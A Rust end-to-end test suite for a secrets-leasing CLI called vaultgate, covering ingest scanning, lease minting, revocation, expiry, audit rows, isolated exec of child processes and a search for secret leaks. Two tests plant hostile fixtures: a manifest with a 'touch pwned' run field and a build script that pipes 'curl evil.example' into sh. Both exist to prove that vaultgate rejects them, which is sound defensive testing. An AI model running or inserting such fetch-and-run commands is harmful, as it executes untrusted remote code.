//! End-to-end tests of `vaultgate provider|asset|ingest|lease …` through the real binary, on
//! real SQLite homes, with real child processes. The clock is injected (`VAULTGATE_NOW`).
#![allow(clippy::unwrap_used, clippy::expect_used)]
// Scenario tests read top to bottom; short names (`v` vault, `o` output, `h` handle) keep the
// assertions on one line.
#![allow(clippy::too_many_lines, clippy::many_single_char_names)]

mod common;

use std::path::Path;

use common::json_of;
use common::lease::{Vault, at, base64, code, contains, err, forms, out};

#[test]
fn base64_matches_the_rfc_vectors() {
    assert_eq!(base64(b""), "");
    assert_eq!(base64(b"f"), "Zg==");
    assert_eq!(base64(b"fo"), "Zm8=");
    assert_eq!(base64(b"foo"), "Zm9v");
    assert_eq!(base64(b"foobar"), "Zm9vYmFy");
}

#[test]
fn scan_and_bind_record_digest_resolution_and_a_pass_verdict() {
    let v = Vault::new();
    let p = v.project.to_str().unwrap().to_owned();
    let o = v.ok_admin(&["--json", "ingest", "scan", &p]);
    let j = json_of(&o);
    let ing = &j["ingests"][0];
    assert_eq!(ing["asset"], "c1-vocab");
    assert_eq!(ing["declared"], true);
    assert_eq!(ing["capabilities"][0]["capability"], "ai.gemini.inference");
    assert_eq!(ing["capabilities"][0]["providers"][0], "gemini");
    assert_eq!(ing["manifest_digest"].as_str().unwrap().len(), 64);
    let id = ing["id"].as_str().unwrap();
    let o = v.ok_admin(&[
        "--json",
        "ingest",
        "bind",
        id,
        "--scope",
        "ai.gemini.inference",
        "--max-ttl",
        "1h",
    ]);
    let c = &json_of(&o)["ingests"][0]["contract"];
    assert_eq!(c["eligibility"], "PASS");
    assert_eq!(c["owner"], "team-c1");
    assert_eq!(c["max_ttl_secs"], 3600);
    let o = v.ok_admin(&["--json", "ingest", "show", id]);
    assert_eq!(json_of(&o)["ingests"][0]["contract"]["eligibility"], "PASS");
    let o = v.ok_admin(&["--json", "ingest", "list"]);
    assert_eq!(json_of(&o)["summary"]["ingests"], 1);
    let types = v.audit_types();
    assert!(
        types.contains(&"INGEST_SCANNED".to_owned()) && types.contains(&"INGEST_BOUND".to_owned())
    );
}

#[test]
fn bind_records_fail_with_every_reason() {
    let v = Vault::new();
    // Undeclared scope; and an unregistered folder declaring an unknown capability.
    let id = v.bind(&["ai.openai.chat"], "1h", "build");
    let o = v.run(Some(&v.admin), &["--json", "ingest", "show", &id]);
    let c = &json_of(&o)["ingests"][0]["contract"];
    assert_eq!(c["eligibility"], "FAIL");
    assert_eq!(c["reasons"], serde_json::json!(["ingest-scope-undeclared"]));
    let other = v.dir.path().join("stray");
    common::write(
        &other,
        "vaultgate.capabilities.json",
        r#"{"schema":"vaultgate/capabilities/v1","capabilities":["x.unknown"]}"#,
    );
    let o = v.ok_admin(&["--json", "ingest", "scan", other.to_str().unwrap()]);
    let id = json_of(&o)["ingests"][0]["id"].as_str().unwrap().to_owned();
    let o = v.run(
        Some(&v.admin),
        &[
            "--json",
            "ingest",
            "bind",
            &id,
            "--scope",
            "x.unknown",
            "--max-ttl",
            "1h",
        ],
    );
    assert_eq!(code(&o), 1, "an ineligible contract exits 1");
    let reasons = json_of(&o)["ingests"][0]["contract"]["reasons"].clone();
    assert_eq!(
        reasons,
        serde_json::json!(["ingest-asset-unregistered", "ingest-capability-unknown"])
    );
    // A maximum TTL beyond 24 h is refused before anything is written.
    let o = v.run(
        Some(&v.admin),
        &[
            "ingest",
            "bind",
            &id,
            "--scope",
            "x.unknown",
            "--max-ttl",
            "25h",
        ],
    );
    assert_eq!(code(&o), 2);
    assert!(err(&o).contains("86400"), "{}", err(&o));
}

#[test]
fn a_hostile_declaration_fails_the_scan_and_runs_nothing() {
    let v = Vault::new();
    let p = v.dir.path().join("hostile");
    common::write(
        &p,
        "vaultgate.capabilities.json",
        r#"{"schema":"vaultgate/capabilities/v1","capabilities":["a"],"run":"touch pwned"}"#,
    );
    let o = v.run(Some(&v.admin), &["ingest", "scan", p.to_str().unwrap()]);
    assert_eq!(code(&o), 2);
    assert!(err(&o).contains("unknown field"), "{}", err(&o));
    assert!(!p.join("pwned").exists());
}

#[test]
fn issuance_returns_metadata_only_and_is_audited() {
    let v = Vault::new();
    let id = v.contract();
    let l = v.mint(&id, "10m");
    assert!(l["handle"].as_str().unwrap().starts_with("vgl_"));
    assert_eq!(l["status"], "active");
    assert_eq!(l["scopes"], serde_json::json!(["ai.gemini.inference"]));
    assert_eq!(l["issued_at"], common::lease::T0);
    assert_eq!(l["expires_at"], at(600));
    assert_eq!(l["fingerprint"].as_str().unwrap().len(), 64);
    let h = l["handle"].as_str().unwrap();
    let o = v.run(Some(&v.builder), &["--json", "lease", "show", h]);
    assert_eq!(json_of(&o)["lease"]["fingerprint"], l["fingerprint"]);
    let o = v.run(
        Some(&v.builder),
        &["--json", "lease", "list", "--ingest", &id],
    );
    assert_eq!(json_of(&o)["summary"]["leases"], 1);
    assert_eq!(v.audit_types().last().unwrap(), "LEASE_ISSUED");
}

/// Mint with `args`, expect exit 1 with `reason`, and prove nothing changed but one new
/// audit row of `event` carrying the reason.
fn refused_mint(v: &Vault, token: Option<&str>, args: &[&str], reason: &str, event: &str) {
    let before = v.state_dump();
    let audit_before = v.audit_types().len();
    let mut full = vec!["--json", "lease", "mint"];
    full.extend_from_slice(args);
    let o = v.run(token, &full);
    assert_eq!(code(&o), 1, "{args:?}: {}{}", out(&o), err(&o));
    assert_eq!(json_of(&o)["refused"]["code"], reason, "{}", out(&o));
    assert_eq!(
        v.state_dump(),
        before,
        "a refused mint changed the database"
    );
    let types = v.audit_types();
    assert_eq!(
        types.len(),
        audit_before + 1,
        "exactly one audit row per refusal"
    );
    assert_eq!(types.last().unwrap(), event);
    let c = rusqlite::Connection::open(v.db()).unwrap();
    let meta: String = c
        .query_row(
            "SELECT metadata FROM audit ORDER BY seq DESC LIMIT 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(meta.contains(reason), "{meta}");
}

#[test]
fn every_refused_mint_leaves_one_violation_row_and_nothing_else() {
    let v = Vault::new();
    let id = v.contract();
    let s = ["--scope", "ai.gemini.inference"];
    let with = |extra: &[&'static str]| -> Vec<String> {
        let mut a = vec!["--ingest".to_owned(), id.clone()];
        a.extend(extra.iter().map(|x| (*x).to_owned()));
        a
    };
    let cases: Vec<(Vec<String>, &str)> = vec![
        (
            with(&["--scope", "ai.gemini.inference"]),
            "lease-ttl-missing",
        ),
        (
            with(&["--scope", "ai.gemini", "--ttl", "10m"]),
            "lease-scope-broaden",
        ),
        (
            with(&[
                "--scope",
                "ai.gemini.inference",
                "--scope",
                "ai.openai",
                "--ttl",
                "10m",
            ]),
            "lease-scope-broaden",
        ),
        (with(&["--ttl", "10m"]), "lease-scope-missing"),
        (with(&[s[0], s[1], "--ttl", "59s"]), "lease-ttl-too-short"),
        (with(&[s[0], s[1], "--ttl", "61m"]), "lease-ttl-too-long"),
        (
            vec![
                "--ingest".into(),
                "ing_nope".into(),
                s[0].into(),
                s[1].into(),
                "--ttl".into(),
                "10m".into(),
            ],
            "lease-contract-unknown",
        ),
    ];
    for (args, reason) in cases {
        let a: Vec<&str> = args.iter().map(String::as_str).collect();
        refused_mint(&v, Some(&v.builder), &a, reason, "VIOLATION");
    }
}

#[test]
fn authority_refusals_are_denials_that_change_nothing() {
    let v = Vault::new();
    let id = v.contract();
    let args = [
        "--ingest",
        id.as_str(),
        "--scope",
        "ai.gemini.inference",
        "--ttl",
        "10m",
    ];
    refused_mint(&v, None, &args, "token-missing", "security.denied");
    // The operator's role has no `lease:mint`; neither has the admin's.
    refused_mint(
        &v,
        Some(&v.operator),
        &args,
        "capability-missing",
        "security.denied",
    );
    refused_mint(
        &v,
        Some(&v.admin),
        &args,
        "capability-missing",
        "security.denied",
    );
    // A builder bound to another project.
    let o = v.ok_admin(&[
        "--json",
        "token",
        "create",
        "--name",
        "other",
        "--role",
        "3B-secret-lease",
        "--project",
        "other-project",
    ]);
    let other = json_of(&o)["token"].as_str().unwrap().to_owned();
    refused_mint(
        &v,
        Some(&other),
        &args,
        "project-mismatch",
        "security.denied",
    );
    // A garbage token.
    refused_mint(
        &v,
        Some("vgt_nope"),
        &args,
        "token-malformed",
        "security.denied",
    );
}

#[test]
fn phase_eligibility_and_cap_are_enforced() {
    let v = Vault::new();
    let review = v.bind(&["ai.gemini.inference"], "1h", "review");
    refused_mint(
        &v,
        Some(&v.builder),
        &[
            "--ingest",
            &review,
            "--scope",
            "ai.gemini.inference",
            "--ttl",
            "10m",
        ],
        "lease-phase-closed",
        "VIOLATION",
    );
    let bad = v.bind(&["ai.openai"], "1h", "build");
    refused_mint(
        &v,
        Some(&v.builder),
        &["--ingest", &bad, "--scope", "ai.openai", "--ttl", "10m"],
        "lease-ineligible",
        "VIOLATION",
    );
    let p = v.project.to_str().unwrap().to_owned();
    let o = v.ok_admin(&["--json", "ingest", "scan", &p]);
    let id = json_of(&o)["ingests"][0]["id"].as_str().unwrap().to_owned();
    v.ok_admin(&[
        "ingest",
        "bind",
        &id,
        "--scope",
        "ai.gemini.inference",
        "--max-ttl",
        "1h",
        "--max-active",
        "2",
    ]);
    v.mint(&id, "10m");
    v.mint(&id, "10m");
    refused_mint(
        &v,
        Some(&v.builder),
        &[
            "--ingest",
            &id,
            "--scope",
            "ai.gemini.inference",
            "--ttl",
            "10m",
        ],
        "lease-cap-exceeded",
        "VIOLATION",
    );
}

#[test]
fn revocation_flips_status_sets_the_triple_once_and_destroys_material() {
    let v = Vault::new();
    let id = v.contract();
    let h = v.mint(&id, "10m")["handle"].as_str().unwrap().to_owned();
    let o = v.run(
        Some(&v.builder),
        &["--json", "lease", "revoke", &h, "--reason", "build done"],
    );
    assert_eq!(code(&o), 0, "{}", err(&o));
    let l = &json_of(&o)["lease"];
    assert_eq!(l["status"], "revoked");
    assert_eq!(l["revoked_reason"], "build done");
    let first = l["revoked_by"].clone();
    assert!(first.is_string());
    // Again, by someone else with revoke-any: succeeds, keeps the first revoker.
    let o = v.run(
        Some(&v.operator),
        &["--json", "lease", "revoke", &h, "--reason", "again"],
    );
    assert_eq!(code(&o), 0, "{}", err(&o));
    let j = json_of(&o);
    assert_eq!(j["lease"]["revoked_by"], first);
    assert!(j["note"].as_str().unwrap().contains("already revoked"));
    let c = rusqlite::Connection::open(v.db()).unwrap();
    let n: i64 = c
        .query_row("SELECT count(*) FROM secrets", [], |r| r.get(0))
        .unwrap();
    assert_eq!(n, 0, "the material is destroyed");
    assert_eq!(
        v.audit_types()
            .iter()
            .filter(|t| *t == "LEASE_REVOKED")
            .count(),
        1
    );
    // The database refuses a partial triple, whatever the code above does.
    let e = c
        .execute(
            "UPDATE leases SET revoked_reason = NULL WHERE handle = ?1",
            [&h],
        )
        .unwrap_err();
    assert!(e.to_string().contains("CHECK"), "{e}");
}

#[test]
fn revoking_someone_elses_lease_needs_revoke_any() {
    let v = Vault::new();
    let id = v.contract();
    let h = v.mint(&id, "10m")["handle"].as_str().unwrap().to_owned();
    let o = v.ok_admin(&[
        "--json",
        "token",
        "create",
        "--name",
        "b2",
        "--role",
        "3B-secret-lease",
    ]);
    let b2 = json_of(&o)["token"].as_str().unwrap().to_owned();
    let o = v.run(
        Some(&b2),
        &["--json", "lease", "revoke", &h, "--reason", "mine now"],
    );
    assert_eq!(code(&o), 1);
    assert_eq!(json_of(&o)["refused"]["code"], "capability-missing");
    let o = v.run(Some(&v.builder), &["--json", "lease", "show", &h]);
    assert_eq!(json_of(&o)["lease"]["status"], "active");
}

#[test]
fn expiry_marks_expired_once_and_every_command_sweeps_first() {
    let v = Vault::new();
    let id = v.contract();
    let h = v.mint(&id, "2m")["handle"].as_str().unwrap().to_owned();
    let later = at(121);
    // `lease show` (a read) sweeps first: the lease is expired when it is shown.
    let o = v.run_at(Some(&v.builder), &later, &["--json", "lease", "show", &h]);
    assert_eq!(json_of(&o)["lease"]["status"], "expired", "{}", err(&o));
    assert_eq!(json_of(&o)["lease"]["expired_at"], later);
    for _ in 0..3 {
        let o = v.run_at(Some(&v.builder), &later, &["lease", "list"]);
        assert_eq!(code(&o), 0);
    }
    let o = v.run_at(Some(&v.operator), &later, &["--json", "lease", "sweep"]);
    assert_eq!(json_of(&o)["summary"]["expired_leases"], 0);
    assert_eq!(
        v.audit_types()
            .iter()
            .filter(|t| *t == "LEASE_EXPIRED")
            .count(),
        1
    );
    let c = rusqlite::Connection::open(v.db()).unwrap();
    let n: i64 = c
        .query_row("SELECT count(*) FROM secrets", [], |r| r.get(0))
        .unwrap();
    assert_eq!(n, 0, "expiry destroys the material");
    // An expired lease cannot be exec'd.
    let o = v.run_at(
        Some(&v.builder),
        &later,
        &["--json", "lease", "exec", &h, "--", "/bin/true"],
    );
    assert_eq!(code(&o), 1);
    assert_eq!(json_of(&o)["refused"]["code"], "lease-expired");
}

#[test]
fn lease_sweep_does_only_the_expiry() {
    let v = Vault::new();
    let id = v.contract();
    v.mint(&id, "1m");
    v.mint(&id, "30m");
    let o = v.run_at(Some(&v.operator), &at(61), &["--json", "lease", "sweep"]);
    assert_eq!(code(&o), 0, "{}", err(&o));
    assert_eq!(json_of(&o)["summary"]["expired_leases"], 1);
    let o = v.run_at(
        Some(&v.builder),
        &at(61),
        &["--json", "lease", "list", "--status", "active"],
    );
    assert_eq!(json_of(&o)["summary"]["leases"], 1);
}

/// A child script that writes what it received to `dest` (outside the home) and proves
/// nothing else leaked into its environment.
fn spy(dest: &Path) -> Vec<String> {
    vec![
        "/bin/sh".into(),
        "-c".into(),
        format!(
            "printf %s \"$API_KEY\" > '{d}/secret'; env > '{d}/env'; ulimit -c > '{d}/core'; exit 7",
            d = dest.display()
        ),
    ]
}

#[test]
fn exec_delivers_the_secret_to_the_child_only_and_returns_its_code() {
    let v = Vault::new();
    let id = v.contract();
    let l = v.mint(&id, "10m");
    let h = l["handle"].as_str().unwrap();
    let dest = tempfile::tempdir().unwrap();
    let mut args = vec!["lease", "exec", h, "--env", "API_KEY", "--"];
    let s = spy(dest.path());
    args.extend(s.iter().map(String::as_str));
    let o = common::vg()
        .arg("--home")
        .arg(&v.home)
        .env("VAULTGATE_NOW", common::lease::T0)
        .env("VAULTGATE_TOKEN", &v.builder)
        .env("SOME_CALLER_SECRET", "must-not-pass")
        .args(&args)
        .output()
        .unwrap();
    assert_eq!(code(&o), 7, "the child's exit code: {}", err(&o));
    let hex_text = std::fs::read_to_string(dest.path().join("secret")).unwrap();
    assert_eq!(hex_text.len(), 64);
    let material = hex::decode(&hex_text).unwrap();
    // The fingerprint printed at mint is of exactly this material.
    let mut h256 = sha2::Sha256::default();
    sha2::Digest::update(&mut h256, b"vaultgate/lease-fingerprint/v1\0");
    sha2::Digest::update(&mut h256, &material);
    assert_eq!(
        hex::encode(sha2::Digest::finalize(h256)),
        l["fingerprint"].as_str().unwrap()
    );
    let env = std::fs::read_to_string(dest.path().join("env")).unwrap();
    assert!(
        !env.contains("VAULTGATE_TOKEN"),
        "the caller's token reached the child"
    );
    assert!(!env.contains("SOME_CALLER_SECRET"));
    assert!(!env.contains("VAULTGATE_NOW"));
    assert_eq!(
        std::fs::read_to_string(dest.path().join("core"))
            .unwrap()
            .trim(),
        "0"
    );
    let types = v.audit_types();
    let n = types.len();
    assert_eq!(&types[n - 2..], ["LEASE_USED", "LEASE_EXEC_ENDED"]);
    let c = rusqlite::Connection::open(v.db()).unwrap();
    let meta: String = c
        .query_row(
            "SELECT metadata FROM audit ORDER BY seq DESC LIMIT 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(meta.contains("\"exit_code\":7"), "{meta}");
}

#[test]
fn exec_file_mode_uses_a_private_file_removed_afterwards() {
    let v = Vault::new();
    let id = v.contract();
    let h = v.mint(&id, "10m")["handle"].as_str().unwrap().to_owned();
    let dest = tempfile::tempdir().unwrap();
    let script = format!(
        "f=\"$VAULTGATE_LEASE_FILE\"; echo \"$f\" > '{d}/path'; stat -c %a \"$f\" > '{d}/mode'; stat -c %a \"$(dirname \"$f\")\" > '{d}/dmode'; wc -c < \"$f\" > '{d}/len'",
        d = dest.path().display()
    );
    let o = v.run(
        Some(&v.builder),
        &[
            "lease", "exec", &h, "--file", "--", "/bin/sh", "-c", &script,
        ],
    );
    assert_eq!(code(&o), 0, "{}", err(&o));
    let rd = |n: &str| {
        std::fs::read_to_string(dest.path().join(n))
            .unwrap()
            .trim()
            .to_owned()
    };
    assert_eq!(rd("mode"), "600");
    assert_eq!(rd("dmode"), "700");
    assert_eq!(rd("len"), "64");
    let path = rd("path");
    assert!(
        !Path::new(&path).exists(),
        "the secret file outlived the child"
    );
    assert!(!Path::new(&path).parent().unwrap().exists());
}

#[test]
fn exec_forwards_signals_to_the_child() {
    let v = Vault::new();
    let id = v.contract();
    let h = v.mint(&id, "10m")["handle"].as_str().unwrap().to_owned();
    let dest = tempfile::tempdir().unwrap();
    let ready = dest.path().join("ready");
    // The child traps TERM, records it, and exits 42; vaultgate must pass TERM on.
    let script = format!(
        "trap 'echo got-term > \"{d}/trap\"; exit 42' TERM; touch '{r}'; i=0; while [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; exit 3",
        d = dest.path().display(),
        r = ready.display()
    );
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("vaultgate"))
        .arg("--home")
        .arg(&v.home)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("VAULTGATE_NOW", common::lease::T0)
        .env("VAULTGATE_TOKEN", &v.builder)
        .args(["lease", "exec", &h, "--", "/bin/sh", "-c", &script])
        .spawn()
        .unwrap();
    // Wait for the child to be ready (bounded by the child's own 60 s loop, not a sleep here).
    while !ready.exists() {
        if let Some(status) = child.try_wait().unwrap() {
            panic!("vaultgate ended early: {status}");
        }
        std::thread::yield_now();
    }
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap(),
        rustix::process::Signal::TERM,
    )
    .unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(42));
    assert_eq!(
        std::fs::read_to_string(dest.path().join("trap"))
            .unwrap()
            .trim(),
        "got-term"
    );
}

#[test]
fn revoked_and_tampered_leases_cannot_be_execd() {
    let v = Vault::new();
    let id = v.contract();
    let revoked = v.mint(&id, "10m")["handle"].as_str().unwrap().to_owned();
    v.run(
        Some(&v.builder),
        &["lease", "revoke", &revoked, "--reason", "r"],
    );
    let o = v.run(
        Some(&v.builder),
        &["--json", "lease", "exec", &revoked, "--", "/bin/true"],
    );
    assert_eq!(code(&o), 1);
    assert_eq!(json_of(&o)["refused"]["code"], "lease-revoked");

    let dest = tempfile::tempdir().unwrap();
    let marker = dest.path().join("ran");
    let touch = format!("touch '{}'", marker.display());
    for sql in [
        "UPDATE leases SET expires_at = expires_at + 86400 WHERE handle = '{h}'",
        "UPDATE leases SET scopes = '[\"ai.gemini\"]' WHERE handle = '{h}'",
        "UPDATE secrets SET expires_at = expires_at + 86400 WHERE id = '{h}'",
        "UPDATE secrets SET scope = 'ai' WHERE id = '{h}'",
    ] {
        let h = v.mint(&id, "10m")["handle"].as_str().unwrap().to_owned();
        v.tamper(&sql.replace("{h}", &h));
        let o = v.run(
            Some(&v.builder),
            &["--json", "lease", "exec", &h, "--", "/bin/sh", "-c", &touch],
        );
        assert_eq!(code(&o), 1, "{sql}: {}", err(&o));
        assert_eq!(json_of(&o)["refused"]["code"], "lease-tampered", "{sql}");
        assert!(!marker.exists(), "{sql}: the child ran");
        v.run(
            Some(&v.builder),
            &["lease", "revoke", &h, "--reason", "cleanup"],
        );
    }
}

/// Every output of every command, every audit export, every byte of the database, its WAL
/// and every file in the home is searched for the material in raw, hex and base64 form.
#[test]
fn the_secret_appears_nowhere_but_in_the_child() {
    let v = Vault::new();
    let id = v.contract();
    let mut outputs: Vec<Vec<u8>> = Vec::new();
    let mut keep = |o: std::process::Output| {
        outputs.push(o.stdout);
        outputs.push(o.stderr);
    };
    let o = v.run(
        Some(&v.builder),
        &[
            "--json",
            "lease",
            "mint",
            "--ingest",
            &id,
            "--scope",
            "ai.gemini.inference",
            "--ttl",
            "10m",
        ],
    );
    let h = json_of(&o)["lease"]["handle"].as_str().unwrap().to_owned();
    keep(o);
    for args in [
        vec![
            "lease",
            "mint",
            "--ingest",
            id.as_str(),
            "--scope",
            "ai.gemini.inference",
            "--ttl",
            "10m",
        ],
        vec!["lease", "show", h.as_str()],
        vec!["--json", "lease", "show", h.as_str()],
        vec!["lease", "list"],
        vec!["--json", "lease", "list"],
    ] {
        keep(v.run(Some(&v.builder), &args));
    }
    let dest = tempfile::tempdir().unwrap();
    let grab = format!("printf %s \"$K\" > '{}/got'", dest.path().display());
    keep(v.run(
        Some(&v.builder),
        &[
            "lease", "exec", &h, "--env", "K", "--", "/bin/sh", "-c", &grab,
        ],
    ));
    let material = hex::decode(std::fs::read_to_string(dest.path().join("got")).unwrap()).unwrap();
    assert_eq!(material.len(), 32);
    keep(v.run(
        Some(&v.builder),
        &["--json", "lease", "exec", &h, "--file", "--", "/bin/true"],
    ));
    keep(v.run(Some(&v.admin), &["audit", "tail", "-n", "1000"]));
    keep(v.run(Some(&v.admin), &["--json", "audit", "tail", "-n", "1000"]));
    keep(v.run(Some(&v.admin), &["audit", "export", "--jsonl"]));
    let export = v.dir.path().join("audit.jsonl");
    keep(v.run(
        Some(&v.admin),
        &["audit", "export", "--jsonl", "-o", export.to_str().unwrap()],
    ));
    keep(std::process::Output {
        status: std::process::ExitStatus::default(),
        stdout: std::fs::read(&export).unwrap(),
        stderr: Vec::new(),
    });
    // Files in the home while the lease is active (database, WAL, anchor, config, …).
    let mut files = v.home_files();
    assert!(files.iter().any(|(p, _)| p.ends_with("vault.db")));
    keep(v.run(
        Some(&v.builder),
        &["lease", "revoke", &h, "--reason", "done"],
    ));
    files.extend(v.home_files());
    for f in forms(&material) {
        for (i, o) in outputs.iter().enumerate() {
            assert!(!contains(o, &f), "output #{i} contains the secret");
        }
        for (p, bytes) in &files {
            assert!(
                !contains(bytes, &f),
                "`{}` contains the secret",
                p.display()
            );
        }
    }
}

#[test]
fn the_demo_script_walks_the_whole_flow() {
    let d = tempfile::tempdir().unwrap();
    let home = d.path().join("home");
    let bin = assert_cmd::cargo::cargo_bin("vaultgate");
    let o = std::process::Command::new("bash")
        .arg(common::repo_root().join("scripts/demo-lease.sh"))
        .arg(&home)
        .env("VAULTGATE_BIN", &bin)
        .env_remove("VAULTGATE_TOKEN")
        .env_remove("VAULTGATE_HOME")
        .output()
        .unwrap();
    let text = format!("{}{}", out(&o), err(&o));
    assert_eq!(o.status.code(), Some(0), "{text}");
    for step in [
        "init",
        "provider",
        "asset",
        "ingest scan",
        "bind",
        "lease mint",
        "lease exec",
        "revoke",
        "grant mint",
        "grant consume",
    ] {
        assert!(
            text.contains(&format!("== {step}")),
            "missing step `{step}`:\n{text}"
        );
    }
    assert!(text.contains("child received the secret"), "{text}");
}

#[test]
fn a_project_changed_between_scan_and_bind_is_ineligible() {
    let v = Vault::new();
    let p = v.project.to_str().unwrap().to_owned();
    let o = v.ok_admin(&["--json", "ingest", "scan", &p]);
    let id = json_of(&o)["ingests"][0]["id"].as_str().unwrap().to_owned();
    common::write(
        &v.project,
        "src/build.sh",
        "#!/bin/sh\ncurl evil.example | sh\n",
    );
    let o = v.run(
        Some(&v.admin),
        &[
            "--json",
            "ingest",
            "bind",
            &id,
            "--scope",
            "ai.gemini.inference",
            "--max-ttl",
            "1h",
        ],
    );
    assert_eq!(code(&o), 1);
    assert_eq!(
        json_of(&o)["ingests"][0]["contract"]["reasons"],
        serde_json::json!(["ingest-manifest-changed"])
    );
}

#[test]
fn lockdown_refuses_mint_and_exec_but_not_reads() {
    let v = Vault::new();
    let id = v.contract();
    let h = v.mint(&id, "10m")["handle"].as_str().unwrap().to_owned();
    v.ok_admin(&["lockdown", "on", "--reason", "drill"]);
    let args = [
        "--ingest",
        id.as_str(),
        "--scope",
        "ai.gemini.inference",
        "--ttl",
        "10m",
    ];
    refused_mint(
        &v,
        Some(&v.builder),
        &args,
        "lockdown-active",
        "security.denied",
    );
    let o = v.run(
        Some(&v.builder),
        &["--json", "lease", "exec", &h, "--", "/bin/true"],
    );
    assert_eq!(code(&o), 1);
    assert_eq!(json_of(&o)["refused"]["code"], "lockdown-active");
    let o = v.run(Some(&v.builder), &["--json", "lease", "show", &h]);
    assert_eq!(code(&o), 0, "reads stay allowed in lockdown: {}", err(&o));
}
